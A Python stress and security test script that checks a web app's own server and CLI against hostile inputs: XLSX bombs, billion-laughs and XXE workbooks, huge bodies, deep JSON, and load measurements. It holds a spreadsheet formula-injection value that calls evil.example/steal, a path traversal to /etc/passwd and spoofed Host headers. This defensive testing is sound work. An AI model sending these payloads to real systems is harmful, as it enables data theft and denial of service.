"""Hostile and heavy requests against the real server, with its memory watched.

For each engine (SQLite, then PostgreSQL in a schema of its own, dropped afterwards):
fill a fresh database with the bundled data and the 20,000-item CASE package of
``bench/exchange.py``, start ``uvicorn`` on it as a separate process, then

* send each case of issue 8 (XLSX bombs, DTDs, nested JSON, heavy pages, /map with
  1,000 unknown codes, CASE packages under many Host headers, a formula in a CSV
  download, huge bodies, long query strings, and a few more an attacker would try)
  and print its status, time, the server's peak RSS (``/proc/PID/status``, sampled
  every 20 ms, and ``VmHWM`` reset before each case) and the response size;
* run the same hostile files through ``crosswalk import`` and ``crosswalk readiness``;
* put a mixed read load of 50 clients on it for 60 s: requests, errors, p50/p95/p99.

Targets (issue 8, this 2-core machine): every hostile case answered with a 4xx (heavy
but legitimate reads: any bounded answer that is not a 5xx) in < 2 s with the server
under 500 MB; commands end with one line and exit 1, under 500 MB and 10 s; the load
with no error and p95 < 400 ms.  A case that hangs is cut at ``--case-timeout`` and
counted as failed; a server over ``--rss-kill-mb`` is killed (this machine is shared)
and restarted, as after every failed case.  Exit status 1 when any target is missed.

    .venv/bin/python bench/hostile.py          # both engines, ~30 min on a busy machine
    .venv/bin/python bench/hostile.py --engines sqlite --load-seconds 10 --only map
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import httpx

sys.path.insert(0, str(Path(__file__).parent))
import hostile_files as files
from exchange import synthetic_package
from hostile_server import Answer, Memory, Request, Server, read_load, send

from crosswalk.formats.exchange import import_file
from crosswalk.store import open_repository
from store import POSTGRES, postgres_schema

SECONDS, RSS_MB, COMMAND_SECONDS, P95_MS = 2.0, 500.0, 10.0, 400.0
LOAD_PATHS = [
    "/",
    "/frameworks/imh",
    "/frameworks/imh/items/direct-service-skills/observation-listening",
    "/crosswalks/imh-wv-ckc-2015",
    "/crosswalks/iecmhc-imh?level=IMHS",
    "/map?from=wv-ckc-2015&to=imh&codes=2.1&codes=4.1",
    "/map?from=iecmhc&to=wv-ckc-2015&codes=6B.2",
    "/search?q=reflective+supervision",
    "/api/frameworks",
    "/api/frameworks/imh/items",
    "/api/frameworks/synthetic-framework/items?limit=50&offset=10000",
    "/api/map?from=iecmhc&to=wv-ckc-2015&codes=6B.2&codes=6C.2",
    "/api/crosswalks/imh-wv-ckc-2015/alignments",
    "/api/search?q=observation",
    "/ims/case/v1p1/CFDocuments",
    "/static/style.css",
]


# -- the cases ----------------------------------------------------------------------------


@dataclass
class Case:
    """Requests that must each be answered within the targets.

    ``heavy``: a legitimate read of large data, for which any bounded answer but a 5xx
    will do; otherwise the input is hostile and must get a 4xx.  ``check`` names what
    is wrong with an answer (a formula left in a CSV, a file's content echoed), if any.
    """

    name: str
    requests: Callable[[], Iterator[Request]]
    heavy: bool = False
    check: Callable[[Answer], str] | None = None


def formula_cells(answer: Answer) -> str:
    """A CSV cell a spreadsheet would run: one starting with = + - @ (or tab, CR)."""
    if answer.status != 200:
        return ""
    for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig", "replace"))):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                return f"formula cell not neutralised: {cell[:40]!r}"
    return ""


def nothing_echoed(what: str, *forbidden: str) -> Callable[[Answer], str]:
    """The answer must not carry ``forbidden`` text: ``what`` names it in the report."""

    def check(answer: Answer) -> str:
        text = answer.body.decode("utf-8", "replace")
        return f"answer echoes {what}" if any(f in text for f in forbidden) else ""

    return check


# The readiness form's double-submit CSRF token (any value, in the cookie and the
# form): without it every upload is refused with 403 before its file is read.
CSRF = "hostile-bench"


def upload(path: Path) -> Callable[[], Iterator[Request]]:
    """The file as a transcript on the readiness page (category IFS), as a browser
    sends it: with the form's CSRF token, so the file itself is read."""

    def requests() -> Iterator[Request]:
        transcript = (path.name, path.read_bytes(), "application/octet-stream")
        yield Request(
            "/readiness",
            "POST",
            headers={"Cookie": f"crosswalk_csrf={CSRF}"},
            files={"transcript": transcript},
            data={"category": "IFS", "csrf_token": CSRF},
        )

    return requests


def get(*paths: str, raw: bool = False, **headers: str) -> Callable[[], Iterator[Request]]:
    return lambda: iter(Request(p, headers=headers, raw=raw) for p in paths)


def huge_body(path: str, megabytes: int, content_type: str) -> Callable[[], Iterator[Request]]:
    def requests() -> Iterator[Request]:
        body = (b"x" * 65536 for _ in range(megabytes * 16))
        headers = {"Content-Type": content_type}
        yield Request(path, "POST", headers, body=body, body_size=megabytes * files.MB, raw=True)

    return requests


def cases(made: dict[str, Path], crosswalk: str, document: str) -> list[Case]:
    """Issue 8's cases, in its order, then a few more an attacker would try."""
    unknown = "&".join(f"codes=Z{n}.{n % 97}" for n in range(1000))
    formula = '=HYPERLINK("http://evil.example/steal","click")'
    package = f"/ims/case/v1p1/CFPackages/{document}"
    hosts = [f"h{n}.evil.example" for n in range(8)]
    words = "+".join(f"w{n}" for n in range(2000))
    ranges = "bytes=" + ",".join(f"{n}-{n}" for n in range(2000))
    big = f"/crosswalks/{crosswalk}"
    long_path = "/".join("a" * 50000)
    laughs = nothing_echoed("the entities", "lollol")
    passwd = nothing_echoed("/etc/passwd", "root:x:0")
    return [
        Case("XLSX: 400 MB shared string", upload(made["shared-string"])),
        Case("XLSX: 40 MB of cells (130 KB)", upload(made["sheet"])),
        Case("XLSX: claims 1M rows × 16k cols", upload(made["dimension"])),
        Case("XLSX: 2,000 rows × 16,000 cells", upload(made["many-cells"])),
        # A valid workbook padded with empty members: a bounded answer of any kind will do.
        Case("XLSX: 30,000 archive members", upload(made["many-parts"]), heavy=True),
        Case("XLSX DTD: billion laughs", upload(made["laughs"]), check=laughs),
        Case("XLSX DTD: external entity", upload(made["xxe"]), check=passwd),
        Case("XLSX: random bytes", upload(made["noise"])),
        Case("JSON nested 100,000 deep", upload(made["nested"])),
        Case("crosswalk page, 20k items", get(big), heavy=True),
        Case("… and ?columns=all", get(big + "?columns=all"), heavy=True),
        Case("/map 1,000 unknown codes", get(f"/map?from=wv-ckc-2015&to=imh&{unknown}")),
        Case("/api/map 1,000 unknown codes", get(f"/api/map?from=wv-ckc-2015&to=imh&{unknown}")),
        Case(
            "CFPackage under 8 Host headers",
            lambda: iter(Request(package, headers={"Host": h}) for h in hosts),
            heavy=True,
            check=nothing_echoed("the Host header", *hosts),
        ),
        Case("CFPackage 20k items, twice", get(package, package), heavy=True),
        Case(
            "CSV download with =HYPERLINK",
            get(f"/map?from=wv-ckc-2015&to=imh&codes=2.1&codes={formula}&format=csv"),
            heavy=True,
            check=formula_cells,
        ),
        Case("upload body of 200 MB", huge_body("/readiness", 200, "multipart/form-data; b=x")),
        Case("JSON body of 200 MB to the API", huge_body("/api/map", 200, "application/json")),
        Case("query string of 64 KB", get("/search?q=" + "a" * 65536, raw=True)),
        Case("query string of 1 MB", get("/api/search?q=" + "a" * files.MB, raw=True)),
        # More an attacker would try:
        Case("framework page, 20k items", get("/frameworks/synthetic-framework"), heavy=True),
        Case("lint page and API, 20k items", get("/lint", "/api/lint"), heavy=True),
        Case("search with 2,000 words", get(f"/search?q={words}"), heavy=True),
        Case("page size 10⁸", get(f"/api{big}/alignments?limit=100000000"), heavy=True),
        Case("item path of 100 KB", get(f"/frameworks/imh/items/{long_path}", raw=True)),
        Case("static path traversal", get("/static/../../../../etc/passwd", raw=True)),
        Case("2,000 byte ranges of a CSS file", get("/static/style.css", Range=ranges), heavy=True),
        # Found by the second review (h8v):
        Case("transcript of 20,000 rows", upload(made["long-transcript"]), heavy=True),
        Case("map page from a 20k framework", get("/map?from=synthetic-framework"), heavy=True),
        Case(
            "suggestions for a 20k framework",
            get("/api/suggest/text?to=synthetic-framework&text=observation"),
        ),
        Case(
            "suggestions, 20k framework stored",
            get("/api/suggest/text?to=imh&text=observation+of+infants"),
            heavy=True,
        ),
        # Found by the third review (h8red):
        Case("transcript of 462,000 unknown codes", upload(made["unknown-codes"]), heavy=True),
        Case(
            "ids past 2⁶³ − 1 and '²'",
            get(
                "/api/change-sets/9223372036854775808",
                "/api/history?change_set=9223372036854775808",
                "/api/frameworks?preview=%C2%B2",
            ),
        ),
    ]


@dataclass
class Result:
    name: str
    statuses: list[int | None] = field(default_factory=list)
    seconds: float = 0.0
    rss_mb: float = 0.0
    size: int = 0
    problems: list[str] = field(default_factory=list)

    @property
    def passed(self) -> bool:
        return not self.problems


def run_case(server: Server, case: Case, timeout: float) -> Result:
    """Send the case's requests; judge statuses, time, memory; restart after a failure
    (the server may still be working on it) so each case meets a fresh server."""
    result = Result(case.name)
    logged = server.log_size()
    server.memory.reset()
    for request in case.requests():
        answer = send(server.url, request, timeout)
        result.statuses.append(answer.status)
        result.seconds = max(result.seconds, answer.seconds)
        result.size = max(result.size, answer.size)
        problem = answer.problem or (case.check(answer) if case.check is not None else "")
        if problem and problem not in result.problems:
            result.problems.append(problem)
        if answer.status is None or not server.alive():
            break
    result.rss_mb = server.memory.peak()
    wanted = "no 5xx" if case.heavy else "4xx"
    for status in result.statuses:
        if status is not None and (status >= 500 or (not case.heavy and not 400 <= status < 500)):
            result.problems.append(f"{status} answered, {wanted} wanted")
            break
    if result.seconds >= SECONDS:
        result.problems.append(f"slower than {SECONDS:.0f} s")
    if result.rss_mb >= RSS_MB:
        result.problems.append(f"server RSS over {RSS_MB:.0f} MB")
    if server.memory.killed:
        result.problems.append("server killed over the memory cap")
    elif not server.alive():
        result.problems.append("server died")
    if not result.passed:
        if line := server.last_logged(logged):
            result.problems.append(f"server log: {line}")
        server.restart()
    return result


# -- the same files through the commands --------------------------------------------------


def run_command(name: str, arguments: list[str], database_url: str, cap_mb: float) -> Result:
    """``crosswalk ARGUMENTS`` as a process: one line on stderr and exit 1, bounded."""
    result = Result(name)
    command = [sys.executable, "-c", "from crosswalk.cli import main; main()"]
    env = {**os.environ, "CROSSWALK_DATABASE_URL": database_url, "COLUMNS": "400"}
    started = time.perf_counter()
    process = subprocess.Popen(
        [*command, *arguments], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    memory = Memory(process.pid, cap_mb)
    try:
        out, err = process.communicate(timeout=60)
    except subprocess.TimeoutExpired:
        process.kill()
        out, err = process.communicate()
        result.problems.append("no end within 60 s")
    memory.stop()
    result.seconds = time.perf_counter() - started
    result.rss_mb = memory.peak_mb
    result.statuses = [process.returncode]
    lines = [line for line in err.decode("utf-8", "replace").splitlines() if line.strip()]
    if memory.killed:
        result.problems.append("killed: over the memory cap")
    if process.returncode != 1:
        result.problems.append(f"exit status {process.returncode}, not 1")
    if len(lines) != 1 or not lines[0].startswith("Error: "):
        shown = lines[-1][:100] if lines else "nothing"
        result.problems.append(f"{len(lines)} lines on stderr, not one error (last: {shown})")
    if result.seconds >= COMMAND_SECONDS:
        result.problems.append(f"slower than {COMMAND_SECONDS:.0f} s")
    if result.rss_mb >= RSS_MB:
        result.problems.append(f"RSS over {RSS_MB:.0f} MB")
    del out
    return result


def commands(made: dict[str, Path]) -> list[tuple[str, list[str]]]:
    hostile = ["shared-string", "sheet", "dimension", "many-cells", "laughs", "xxe", "noise"]
    listed = [(f"import {made[k].name}", ["import", str(made[k])]) for k in hostile]
    listed.append(("import nested.json", ["import", str(made["nested"])]))
    listed.append(("import noise.json", ["import", str(made["noise-json"])]))
    listed += [
        (f"readiness {made[k].name}", ["readiness", str(made[k]), "--category", "IFS"])
        for k in ("shared-string", "dimension", "many-cells", "laughs")
    ]
    return listed


def make_files(folder: Path) -> dict[str, Path]:
    made = {
        "shared-string": files.shared_string_bomb(folder),
        "sheet": files.sheet_bomb(folder),
        "dimension": files.sparse_sheet(folder),
        "many-cells": files.wide_sheet(folder),
        "many-parts": files.many_parts(folder),
        "laughs": files.billion_laughs(folder),
        "xxe": files.external_entity(folder),
        "noise": files.garbage(folder, "noise.xlsx"),
        "noise-json": files.garbage(folder, "noise.json"),
        "nested": files.deep_json(folder),
        "long-transcript": files.long_transcript(folder),
        "unknown-codes": files.unknown_codes(folder),
    }
    return made


@contextmanager
def database(engine: str, folder: Path) -> Iterator[str]:
    """A fresh database on ``engine``: a SQLite file, or a PostgreSQL schema dropped
    afterwards (on ``CROSSWALK_TEST_POSTGRES_URL``, as for ``bench/store.py``)."""
    if engine == "sqlite":
        yield f"sqlite:///{folder / 'hostile.sqlite3'}"
        return
    found = postgres_schema()
    if found is None:
        raise SystemExit(f"PostgreSQL unreachable at {POSTGRES}")
    url, drop = found
    try:
        yield url
    finally:
        drop()


def fill(url: str, folder: Path) -> None:
    package = folder / "synthetic-20000.json"
    if not package.exists():
        package.write_text(json.dumps(synthetic_package(20_000, 50_000)), encoding="utf-8")
    with open_repository(url):
        pass  # the bundled data
    import_file(package, url=url)


def _ids(url: str) -> tuple[str, str]:
    """The synthetic crosswalk's id and its framework's CASE sourcedId."""
    crosswalks = httpx.get(url + "/api/crosswalks?limit=100", timeout=60).json()["items"]
    crosswalk = next(c["id"] for c in crosswalks if c["source_framework"].startswith("synth"))
    documents = httpx.get(url + "/ims/case/v1p1/CFDocuments", timeout=120).json()
    document = next(d for d in documents["CFDocuments"] if d["title"] == "Synthetic Framework")
    return crosswalk, document["identifier"]


def show(result: Result, size: bool = True) -> None:
    statuses = ",".join("—" if s is None else str(s) for s in dict.fromkeys(result.statuses))
    shown_size = f"{result.size / 1024:>9.0f}" if size else f"{'':>9}"
    verdict = "PASS" if result.passed else "FAIL  " + "; ".join(result.problems)
    print(
        f"{result.name[:34]:<34} {statuses[:9]:>9} {result.seconds:>8.2f} "
        f"{result.rss_mb:>8.0f} {shown_size}  {verdict}",
        flush=True,
    )


def header(title: str) -> None:
    print(f"\n{title}")
    print(f"{'case':<34} {'status':>9} {'seconds':>8} {'RSS MB':>8} {'size KB':>9}  result")


def run_load(engine: str, server: Server, clients: int, seconds: float) -> Result:
    load = read_load(server, LOAD_PATHS, clients, seconds)
    result = Result(f"read load: {clients} clients × {seconds:.0f} s", rss_mb=load.peak_mb)
    if load.errors:
        result.problems.append(f"{load.errors} errors")
    if load.p95_ms >= P95_MS:
        result.problems.append(f"p95 over {P95_MS:.0f} ms")
    verdict = "PASS" if result.passed else "FAIL  " + "; ".join(result.problems)
    print(
        f"\n{engine}: {result.name}: requests {load.requests}, errors {load.errors}, "
        f"p50 {load.p50_ms:.0f} ms, p95 {load.p95_ms:.0f} ms, p99 {load.p99_ms:.0f} ms, "
        f"server peak RSS {load.peak_mb:.0f} MB  {verdict}"
    )
    print("slowest paths (p95): " + ", ".join(f"{p} {ms:.0f} ms" for p, ms in load.slowest))
    return result


def run_engine(engine: str, made: dict[str, Path], folder: Path, args: argparse.Namespace) -> bool:
    wanted = [w.lower() for w in args.only or []]
    with database(engine, folder) as url:
        started = time.perf_counter()
        fill(url, folder)
        took = time.perf_counter() - started
        print(f"\n== {engine}: bundled data + 20,000-item package stored in {took:.0f} s")
        server = Server(url, folder / f"server-{engine}.log", args.rss_kill_mb)
        server.start()
        results: list[Result] = []
        try:
            crosswalk, document = _ids(server.url)
            print(f"server RSS after start-up: {server.memory.peak():.0f} MB (log: {server.log})")
            header(f"{engine}: hostile requests (targets: 4xx, or for heavy reads no 5xx; "
                   f"< {SECONDS:.0f} s; < {RSS_MB:.0f} MB)")  # fmt: skip
            for case in cases(made, crosswalk, document):
                if wanted and not any(w in case.name.lower() for w in wanted):
                    continue
                results.append(run_case(server, case, args.case_timeout))
                show(results[-1])
            header(f"{engine}: the same files through the commands (targets: one line, "
                   f"exit 1, < {COMMAND_SECONDS:.0f} s, < {RSS_MB:.0f} MB)")  # fmt: skip
            for name, arguments in commands(made):
                if wanted and not any(w in name.lower() for w in wanted):
                    continue
                results.append(run_command(name, arguments, url, args.rss_kill_mb))
                show(results[-1], size=False)
            if args.load_seconds > 0:
                server.restart()
                results.append(run_load(engine, server, args.clients, args.load_seconds))
        finally:
            server.stop()
    failed = [r for r in results if not r.passed]
    print(f"{engine}: {len(results) - len(failed)} of {len(results)} met their targets")
    return not failed


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--engines", nargs="+", default=["sqlite", "postgresql"])
    parser.add_argument("--only", nargs="+", help="Only cases whose name contains a word.")
    parser.add_argument("--case-timeout", type=float, default=20.0)
    parser.add_argument("--rss-kill-mb", type=float, default=2048.0)
    parser.add_argument("--clients", type=int, default=50)
    parser.add_argument("--load-seconds", type=float, default=60.0, help="0: no load run.")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        folder = Path(tmp)
        started = time.perf_counter()
        made = make_files(folder)
        print(f"hostile files made in {time.perf_counter() - started:.0f} s:", ", ".join(
            f"{p.name} {p.stat().st_size / 1024:.0f} KB" for p in made.values()))  # fmt: skip
        met = [run_engine(engine, made, folder, args) for engine in args.engines]
    raise SystemExit(0 if all(met) else 1)


if __name__ == "__main__":
    main()
